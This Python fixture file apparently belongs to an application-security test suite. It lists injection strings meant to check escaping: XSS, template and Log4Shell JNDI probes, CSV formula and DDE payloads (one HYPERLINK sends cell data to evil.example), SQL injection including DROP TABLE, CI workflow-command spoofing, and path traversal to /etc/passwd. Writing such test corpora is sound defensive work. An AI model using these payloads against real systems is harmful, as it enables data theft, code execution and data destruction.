# Copyright: appsec.perimeter contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Strings that must stay data: each breaks some format when it is not escaped for it."""

from __future__ import annotations

MARKUP = (
    "<script>alert(document.domain)</script>",
    "\"><img src=x onerror=alert('perimeter')>",
    "</script><svg/onload=confirm(1)>",
    "javascript:alert(1)//",
    "]]><!-- --><x/><![CDATA[",
    "&lt;b&gt; &amp;amp; &nbsp; &#x3c;",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ lookup('env', 'HOME') }}",
    "{% for x in [1] %}{{ x }}{% endfor %}",
    "{# comment #} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://collab.example/a}",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07",
    "\x1b[2J\x1b[1;1Hcleared",
    "bell\x07 backspace\x08 vertical\x0b form\x0c unit\x1f",
    "\x9b31m C1 control",
)
WORKFLOW = (
    "::error file=app.js,line=1::injected annotation",
    "##vso[task.setvariable variable=x]y",
    "::set-output name=verdict::pass",
    "##teamcity[buildStatus status='SUCCESS']",
)
MARKDOWN = (
    "[click](javascript:alert(1)) ![x](http://evil.example/p.png)",
    "| a | b |\n|---|---|\n| `c` | **d** |",
    "``` \n# heading\n``` <details>",
)
UNICODE = (
    "user\u202egnp.exe",
    "Zürich naïve façade Ωμέγα Привет 你好 🔥",
    "zero\u200bwidth\u00a0space\ufeff",
    "line\u2028separator\u2029paragraph",
    "combining e\u0301 versus \u00e9",
)
SQL = (
    "1' OR '1'='1' -- ",
    "'; DROP TABLE findings; --",
    "%s %d %n %(name)s {0} {name}",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "a" * 600,
    "CON|NUL:*?<>",
)

ALL: tuple[str, ...] = (
    *MARKUP, *TEMPLATES, *FORMULAS, *TERMINAL, *WORKFLOW, *MARKDOWN, *UNICODE, *SQL, *PATHS,
)  # fmt: skip
